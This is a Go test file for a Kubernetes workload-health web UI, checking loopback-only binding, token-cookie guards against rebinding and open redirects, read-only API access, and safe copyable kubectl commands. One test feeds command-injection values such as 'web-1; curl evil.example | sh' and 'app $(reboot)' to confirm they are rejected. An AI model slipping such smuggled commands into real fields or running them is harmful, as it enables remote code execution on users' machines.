package webui

import (
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"k8s.io/client-go/rest"
)

func TestLoopbackHost(t *testing.T) {
	cases := []struct {
		name, address, want string
		wantErr             bool
	}{
		{name: "empty is 127.0.0.1", address: "", want: "127.0.0.1"},
		{name: "localhost", address: "localhost", want: "127.0.0.1"},
		{name: "127.0.0.1", address: "127.0.0.1", want: "127.0.0.1"},
		{name: "another loopback", address: "127.0.0.5", want: "127.0.0.5"},
		{name: "ipv6 loopback", address: "::1", want: "::1"},
		{name: "ipv6 loopback in brackets", address: "[::1]", want: "::1"},
		{name: "every interface", address: "0.0.0.0", wantErr: true},
		{name: "ipv6 every interface", address: "::", wantErr: true},
		{name: "a LAN address", address: "192.168.1.10", wantErr: true},
		{name: "a name", address: "example.com", wantErr: true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := loopbackHost(tc.address)
			if tc.wantErr {
				if err == nil || !strings.Contains(err.Error(), "loopback") {
					t.Fatalf("loopbackHost(%q) = %q, %v; want an error that says loopback", tc.address, got, err)
				}
				return
			}
			if err != nil || got != tc.want {
				t.Fatalf("loopbackHost(%q) = %q, %v; want %q", tc.address, got, err, tc.want)
			}
		})
	}
}

func TestGuard(t *testing.T) {
	const token = "s3cret-token"
	addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1), Port: 4567}
	ok := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write([]byte("the page")) })
	g := newGuard(token, addr, ok)
	cookie := &http.Cookie{Name: "workloadhealth-ui-4567", Value: token}

	cases := []struct {
		name       string
		method     string
		host       string
		target     string
		cookie     *http.Cookie
		wantStatus int
		wantBody   string
	}{
		{name: "no token", host: "127.0.0.1:4567", target: "/", wantStatus: 403, wantBody: "printed"},
		{name: "wrong token in the URL", host: "127.0.0.1:4567", target: "/?token=guess", wantStatus: 403},
		{name: "wrong cookie", host: "127.0.0.1:4567", target: "/", cookie: &http.Cookie{Name: cookie.Name, Value: "guess"}, wantStatus: 403},
		{name: "another port's cookie", host: "127.0.0.1:4567", target: "/", cookie: &http.Cookie{Name: "workloadhealth-ui-1234", Value: token}, wantStatus: 403},
		{name: "cookie", host: "127.0.0.1:4567", target: "/", cookie: cookie, wantStatus: 200, wantBody: "the page"},
		{name: "cookie, localhost", host: "localhost:4567", target: "/", cookie: cookie, wantStatus: 200},
		{name: "rebound name", host: "attacker.example:4567", target: "/", cookie: cookie, wantStatus: 403, wantBody: "Host"},
		{name: "rebound name with the token", host: "attacker.example:4567", target: "/?token=" + token, wantStatus: 403},
		{name: "another port", host: "127.0.0.1:80", target: "/", cookie: cookie, wantStatus: 403},
		{name: "write method", method: "POST", host: "127.0.0.1:4567", target: "/", cookie: cookie, wantStatus: 405},
		{name: "token becomes a cookie", host: "127.0.0.1:4567", target: "/w/ns/x?token=" + token + "&health=Degraded", wantStatus: 303},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := httptest.NewRequest(tc.method, tc.target, nil)
			r.Host = tc.host
			if tc.cookie != nil {
				r.AddCookie(tc.cookie)
			}
			w := httptest.NewRecorder()
			g.ServeHTTP(w, r)
			if w.Code != tc.wantStatus {
				t.Fatalf("status %d, want %d; body %q", w.Code, tc.wantStatus, w.Body.String())
			}
			if !strings.Contains(w.Body.String(), tc.wantBody) {
				t.Errorf("body %q does not contain %q", w.Body.String(), tc.wantBody)
			}
			if w.Header().Get("Content-Security-Policy") == "" || w.Header().Get("X-Frame-Options") != "DENY" {
				t.Errorf("security headers missing: %v", w.Header())
			}
		})
	}

	t.Run("the token's cookie is HttpOnly, SameSite=Strict, and the token leaves the URL", func(t *testing.T) {
		r := httptest.NewRequest("GET", "/w/ns/x?token="+token+"&health=Degraded", nil)
		r.Host = "127.0.0.1:4567"
		w := httptest.NewRecorder()
		g.ServeHTTP(w, r)
		res := w.Result()
		cookies := res.Cookies()
		if len(cookies) != 1 {
			t.Fatalf("cookies %v, want one", cookies)
		}
		c := cookies[0]
		if c.Name != cookie.Name || c.Value != token || !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Path != "/" {
			t.Errorf("cookie %+v, want %s=token, HttpOnly, SameSite=Strict, Path=/", c, cookie.Name)
		}
		loc, err := url.Parse(res.Header.Get("Location"))
		if err != nil {
			t.Fatal(err)
		}
		if loc.Path != "/w/ns/x" || loc.Query().Has(tokenParam) || loc.Query().Get("health") != "Degraded" {
			t.Errorf("redirect to %s, want /w/ns/x?health=Degraded", loc)
		}
	})

	t.Run("the token's redirect stays on this server", func(t *testing.T) {
		for _, target := range []string{"//attacker.example/x", "/..//attacker.example/x", "/%2F%2Fattacker.example"} {
			r := httptest.NewRequest("GET", target+"?token="+token, nil)
			r.Host = "127.0.0.1:4567"
			w := httptest.NewRecorder()
			g.ServeHTTP(w, r)
			loc, err := url.Parse(w.Result().Header.Get("Location"))
			if err != nil {
				t.Fatal(err)
			}
			if loc.Host != "" || !strings.HasPrefix(loc.Path, "/") || strings.HasPrefix(loc.String(), "//") {
				t.Errorf("%s redirects to %q, off this server", target, loc)
			}
		}
	})
}

// TestLogsCommandOnlyForKubernetesNames: the copyable line is offered only
// when every name in it is a valid Kubernetes name, so a status written by
// someone hostile cannot put a shell command in the user's clipboard.
func TestLogsCommandOnlyForKubernetesNames(t *testing.T) {
	tests := []struct {
		ns, pod, container string
		want               string
	}{
		{"knative-serving", "activator-67656dcbbb-hq62r", "activator",
			"kubectl logs activator-67656dcbbb-hq62r -c activator -n knative-serving --previous"},
		{"shop", "web-1; curl evil.example | sh", "app", ""},
		{"shop", "web-1", "app $(reboot)", ""},
		{"shop`id`", "web-1", "app", ""},
	}
	for _, tc := range tests {
		got, ok := logsCommand(tc.ns, tc.pod, tc.container)
		if got != tc.want || ok != (tc.want != "") {
			t.Errorf("logsCommand(%q, %q, %q) = %q, %v; want %q", tc.ns, tc.pod, tc.container, got, ok, tc.want)
		}
	}
}

func TestReadOnlyTransport(t *testing.T) {
	reached := 0
	next := roundTripFunc(func(*http.Request) (*http.Response, error) {
		reached++
		return &http.Response{StatusCode: 200, Body: http.NoBody}, nil
	})
	rt := readOnly{next: next}
	for _, m := range []string{"GET", "HEAD"} {
		if _, err := rt.RoundTrip(httptest.NewRequest(m, "https://127.0.0.1/apis", nil)); err != nil {
			t.Errorf("%s refused: %v", m, err)
		}
	}
	for _, m := range []string{"POST", "PUT", "PATCH", "DELETE"} {
		if _, err := rt.RoundTrip(httptest.NewRequest(m, "https://127.0.0.1/apis", nil)); err == nil {
			t.Errorf("%s let through", m)
		}
	}
	if reached != 2 {
		t.Errorf("%d requests reached the API server, want the 2 reads", reached)
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

func TestNewRefusesANonLoopbackAddress(t *testing.T) {
	for _, address := range []string{"0.0.0.0", "::", "10.0.0.1"} {
		srv, err := New(&rest.Config{Host: "https://127.0.0.1:1"}, Options{Address: address})
		if err == nil {
			t.Errorf("New listened on %s (%s); want a refusal", address, srv.Addr())
		}
	}
}
